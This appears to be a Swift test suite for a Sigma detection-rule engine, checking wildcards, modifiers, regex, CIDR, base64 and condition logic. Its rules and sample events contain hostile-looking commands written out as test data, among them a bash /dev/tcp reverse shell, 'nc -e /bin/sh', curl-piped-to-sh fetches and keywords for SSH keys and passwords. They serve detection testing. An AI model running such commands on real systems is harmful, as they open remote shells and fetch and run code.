import Foundation
import Sigma
import Testing

@Suite("Sigma values, modifiers and conditions")
struct SigmaMatchingTests {
    static func matches(_ detection: String, _ event: [String: String]) throws -> Bool {
        try SigmaTestRules.rule(SigmaTestRules.processCreation(detection)).matches(SigmaTestEvent(event))
    }

    @Test("wildcards, their escapes, and case: insensitive unless |cased", arguments: [
        ("    sel:\n        Image: '/usr/bin/curl'\n    condition: sel", "/USR/bin/CURL", true),
        ("    sel:\n        Image: '/usr/bin/curl'\n    condition: sel", "/usr/bin/curl2", false),
        ("    sel:\n        Image|cased: '/usr/bin/curl'\n    condition: sel", "/USR/bin/curl", false),
        ("    sel:\n        Image: '*/cu?l'\n    condition: sel", "/usr/bin/curl", true),
        ("    sel:\n        Image: '*/cu?l'\n    condition: sel", "/usr/bin/cuurl", false),
        ("    sel:\n        Image: '/a*b*c'\n    condition: sel", "/aXXbYYc", true),
        ("    sel:\n        Image: '/a*b*c'\n    condition: sel", "/aXXcYYb", false),
        ("    sel:\n        Image: '/a*b*c'\n    condition: sel", "/abc", true),
        ("    sel:\n        Image: '/a*bc*c'\n    condition: sel", "/abc", false),
        ("    sel:\n        Image: 'x\\*y'\n    condition: sel", "x*y", true),
        ("    sel:\n        Image: 'x\\*y'\n    condition: sel", "xzzy", false),
        ("    sel:\n        Image: 'x\\?y'\n    condition: sel", "xzy", false),
        ("    sel:\n        Image: 'x\\\\y'\n    condition: sel", "x\\y", true),
        ("    sel:\n        Image: 'C:\\Windows'\n    condition: sel", "c:\\windows", true),
        ("    sel:\n        Image|contains: 'bin/c'\n    condition: sel", "/usr/bin/curl", true),
        ("    sel:\n        Image|startswith: '/usr/'\n    condition: sel", "/usr/bin/curl", true),
        ("    sel:\n        Image|endswith: '/curl'\n    condition: sel", "/usr/bin/curl", true),
        ("    sel:\n        Image|endswith: '/curl'\n    condition: sel", "/usr/bin/curl.sh", false),
        ("    sel:\n        Image|contains: '*'\n    condition: sel", "", true),
    ])
    func patterns(detection: String, image: String, expected: Bool) throws {
        #expect(try Self.matches(detection, ["Image": image]) == expected)
    }

    @Test("lists are OR, maps AND, |all makes a list AND; a list of maps is OR of them")
    func listsAndMaps() throws {
        let any = "    sel:\n        CommandLine|contains:\n            - 'nc -e'\n            - 'bash -i'\n    condition: sel"
        #expect(try Self.matches(any, ["CommandLine": "bash -i >& /dev/tcp/1.2.3.4/80"]))
        #expect(try !Self.matches(any, ["CommandLine": "bash -c ls"]))
        let all = "    sel:\n        CommandLine|contains|all:\n            - 'curl'\n            - '| sh'\n    condition: sel"
        #expect(try Self.matches(all, ["CommandLine": "curl -s http://x/i | sh"]))
        #expect(try !Self.matches(all, ["CommandLine": "curl -s http://x/i"]))
        let map = "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains: 'http'\n    condition: sel"
        #expect(try Self.matches(map, ["Image": "/usr/bin/curl", "CommandLine": "curl http://x"]))
        #expect(try !Self.matches(map, ["Image": "/usr/bin/wget", "CommandLine": "wget http://x"]))
        let maps = "    sel:\n        - Image|endswith: '/curl'\n        - Image|endswith: '/wget'\n    condition: sel"
        #expect(try Self.matches(maps, ["Image": "/usr/bin/wget"]))
        #expect(try !Self.matches(maps, ["Image": "/usr/bin/nc"]))
    }

    @Test("null, exists, numbers, cidr, fieldref")
    func otherTests() throws {
        let null = "    sel:\n        Image|endswith: '/sh'\n        ParentImage: null\n    condition: sel"
        #expect(try Self.matches(null, ["Image": "/bin/sh"]))
        #expect(try Self.matches(null, ["Image": "/bin/sh", "ParentImage": ""]))
        #expect(try !Self.matches(null, ["Image": "/bin/sh", "ParentImage": "/usr/bin/python3"]))
        let exists = "    sel:\n        ParentImage|exists: true\n    condition: sel"
        #expect(try Self.matches(exists, ["ParentImage": ""]))
        #expect(try !Self.matches(exists, ["Image": "/bin/sh"]))
        let number = "    sel:\n        ProcessId|gte: 1000\n        ParentProcessId|lt: 2\n    condition: sel"
        #expect(try Self.matches(number, ["ProcessId": "1000", "ParentProcessId": "1"]))
        #expect(try !Self.matches(number, ["ProcessId": "999", "ParentProcessId": "1"]))
        #expect(try !Self.matches(number, ["ProcessId": "abc", "ParentProcessId": "1"]))
        let plain = "    sel:\n        ProcessId: 1000\n    condition: sel"
        #expect(try Self.matches(plain, ["ProcessId": "1000"]), "a number is also its text")
        let cidr = """
                sel:
                    DestinationIp|cidr:
                        - '10.0.0.0/8'
                        - 'fd00::/8'
                        - '::ffff:192.168.0.0/112'
                condition: sel
            """
        func connection(_ ip: String) throws -> Bool {
            let text = SigmaTestRules.processCreation(cidr).replacingOccurrences(of: "process_creation", with: "network_connection")
            return try SigmaTestRules.rule(text).matches(SigmaTestEvent(["DestinationIp": ip]))
        }
        #expect(try connection("10.200.3.4"))
        #expect(try !connection("11.0.0.1"))
        #expect(try connection("fd12::1"))
        #expect(try !connection("fe80::1"))
        #expect(try connection("::ffff:192.168.3.4"))
        #expect(try !connection("not an address"))
        let reference = "    sel:\n        CommandLine|fieldref|contains: Image\n    condition: sel"
        #expect(try Self.matches(reference, ["Image": "/tmp/x", "CommandLine": "run /TMP/X now"]))
        #expect(try !Self.matches(reference, ["Image": "/tmp/y", "CommandLine": "run /tmp/x now"]))
    }

    @Test("base64offset finds the value at any offset of an encoded text; base64 only at the start")
    func base64() throws {
        let offset = "    sel:\n        CommandLine|base64offset|contains: 'sh -i'\n    condition: sel"
        let plain = "    sel:\n        CommandLine|base64|contains: 'sh -i'\n    condition: sel"
        for prefix in ["", "b", "ba", "bas", "bash; "] {
            for suffix in ["", "x", " >& /dev/tcp/1"] {
                let encoded = Data((prefix + "sh -i" + suffix).utf8).base64EncodedString()
                #expect(try Self.matches(offset, ["CommandLine": "echo \(encoded) | base64 -d | sh"]), "\(prefix)|\(suffix)")
                if prefix.isEmpty {
                    #expect(try Self.matches(plain, ["CommandLine": "echo \(encoded)"]) == suffix.isEmpty)
                }
            }
        }
        #expect(try !Self.matches(offset, ["CommandLine": Data("bash -c id".utf8).base64EncodedString()]))
    }

    @Test("windash: an option's dash may be a slash or a Unicode dash")
    func windash() throws {
        let detection = "    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel"
        #expect(try Self.matches(detection, ["CommandLine": "find . -exec rm {} ;"]))
        #expect(try Self.matches(detection, ["CommandLine": "find . /exec rm {} ;"]))
        #expect(try Self.matches(detection, ["CommandLine": "find . \u{2013}exec rm {} ;"]))
        #expect(try !Self.matches(detection, ["CommandLine": "find . exec rm"]))
    }

    @Test("under |all, each value must pass in one of the forms windash gives it, not in all of them")
    func windashAll() throws {
        let detection = "    sel:\n        CommandLine|windash|contains|all: [' -exec ', ' -delete']\n    condition: sel"
        #expect(try Self.matches(detection, ["CommandLine": "find . -exec rm {} ; -delete"]))
        #expect(try Self.matches(detection, ["CommandLine": "find . /exec rm {} ; \u{2013}delete"]))
        #expect(try !Self.matches(detection, ["CommandLine": "find . -exec rm {} ;"]))
    }

    @Test("regular expressions: classes, anchors, flags; case-sensitive unless |i")
    func regex() throws {
        func re(_ pattern: String, _ modifiers: String = "", _ value: String) throws -> Bool {
            try Self.matches("    sel:\n        CommandLine|re\(modifiers): '\(pattern)'\n    condition: sel", ["CommandLine": value])
        }
        #expect(try re("^curl .*\\| *(ba)?sh$", "", "curl http://x | bash"))
        #expect(try re("^curl .*\\| *(ba)?sh$", "", "curl http://x | sh"))
        #expect(try !re("^curl .*\\| *(ba)?sh$", "", "curl http://x | zsh"))
        #expect(try !re("CURL", "", "curl"))
        #expect(try re("CURL", "|i", "curl"))
        #expect(try re("(?i)CURL", "", "curl"))
        #expect(try re("[0-9]{1,3}(\\.[0-9]{1,3}){3}", "", "connect 10.1.2.3"))
        #expect(try !re("^[0-9]{1,3}(\\.[0-9]{1,3}){3}$", "", "10.1.2"))
        #expect(try re("\\bnc\\b", "", "/bin/nc -e /bin/sh"))
        #expect(try !re("\\bnc\\b", "", "/bin/ncat"))
        #expect(try re("^b$", "|m", "a\nb\nc"))
        #expect(try !re("^b$", "", "a\nb\nc"))
        #expect(try re("a.c", "|s", "a\nc"))
        #expect(try !re("a.c", "", "a\nc"))
        #expect(try re("x[^/]+y", "", "x-a-y"))
        #expect(try !re("x[^/]+y", "", "x/y"))
        #expect(try re("a|b|c", "", "zzc"))
        #expect(try re("(?:ab)+?c", "", "ababc"))
        #expect(try re("\\x41\\t", "", "A\t"))
    }

    @Test("a regular expression that makes backtracking engines run for hours answers at once here")
    func hostileRegex() throws {
        let rule = try SigmaTestRules.rule(SigmaTestRules.processCreation("    sel:\n        CommandLine|re: '^(a+)+$'\n    condition: sel"))
        let hostile = String(repeating: "a", count: 50_000) + "!"
        #expect(!rule.matches(SigmaTestEvent(["CommandLine": hostile])))
        #expect(rule.matches(SigmaTestEvent(["CommandLine": String(repeating: "a", count: 50_000)])))
        let nested = try SigmaTestRules.rule(SigmaTestRules.processCreation("    sel:\n        CommandLine|re: '(x*)*(y*)*(x|y)*z'\n    condition: sel"))
        #expect(!nested.matches(SigmaTestEvent(["CommandLine": String(repeating: "xy", count: 20_000)])))
    }

    @Test("conditions: not before and before or, parentheses, 1 of / all of patterns and them", arguments: [
        ("a and not b", [true, false, false], true),
        ("a and not b", [true, true, false], false),
        ("a or b and c", [true, false, false], true),
        ("a or b and c", [false, true, false], false),
        ("(a or b) and c", [true, false, false], false),
        ("not a or b", [true, true, false], true),
        ("not (a or b)", [false, false, true], true),
        ("1 of sel_*", [false, false, false], false),
        ("1 of sel_*", [false, true, false], true),
        ("all of sel_*", [false, true, true], true),
        ("all of sel_*", [false, true, false], false),
        ("1 of them", [false, false, true], true),
        ("all of them", [true, true, true], true),
        ("all of them", [true, true, false], false),
        ("a and not 1 of sel_*", [true, false, false], true),
        ("a AND NOT 1 OF sel_*", [true, false, true], false),
    ])
    func conditions(condition: String, flags: [Bool], expected: Bool) throws {
        // a: Image /a; sel_b (also b): User b; sel_c: CurrentDirectory /c
        let detection = """
                a:
                    Image: /a
                sel_b:
                    User: b
                sel_c:
                    CurrentDirectory: /c
                condition: \(condition.replacingOccurrences(of: " b", with: " sel_b").replacingOccurrences(of: "(b", with: "(sel_b").replacingOccurrences(of: " c", with: " sel_c"))
            """
        var event: [String: String] = [:]
        if flags[0] { event["Image"] = "/a" }
        if flags[1] { event["User"] = "b" }
        if flags[2] { event["CurrentDirectory"] = "/c" }
        #expect(try Self.matches(detection, event) == expected)
    }

    @Test("keywords: anywhere in any string value of the event, as a search of the whole log line finds them")
    func keywords() throws {
        let detection = "    keywords:\n        - 'authorized_keys'\n        - 'id_*.pub'\n    condition: keywords"
        #expect(try Self.matches(detection, ["CommandLine": "cat /root/.ssh/authorized_keys"]))
        #expect(try Self.matches(detection, ["CurrentDirectory": "/x", "CommandLine": "cat ~/.ssh/ID_rsa.pub"]))
        #expect(try !Self.matches(detection, ["CommandLine": "cat ~/.ssh/known_hosts", "CurrentDirectory": "/root/.ssh"]))
    }

    @Test("a field-less item ('|all': [...]) is keywords read with its modifiers: each value somewhere in the event")
    func keywordModifiers() throws {
        let all = "    sel:\n        '|all':\n            - 'grep'\n            - 'password'\n    condition: sel"
        #expect(try Self.matches(all, ["CommandLine": "grep -r password /etc"]))
        #expect(try Self.matches(all, ["CommandLine": "grep -r x /etc", "CurrentDirectory": "/home/password"]))
        #expect(try !Self.matches(all, ["CommandLine": "grep -r secret /etc"]))
        let regex = "    sel:\n        '|re': 'pass(wd|word)='\n    condition: sel"
        #expect(try Self.matches(regex, ["CommandLine": "curl -d passwd=x"]))
        #expect(try !Self.matches(regex, ["CommandLine": "curl -d pass=x"]))
        let exists = SigmaTestRules.processCreation("    sel:\n        '|exists': true\n    condition: sel")
        #expect(SigmaLoader.load(exists, file: "test.yml").refusals.map(\.construct) == ["keyword modifiers"])
    }
}
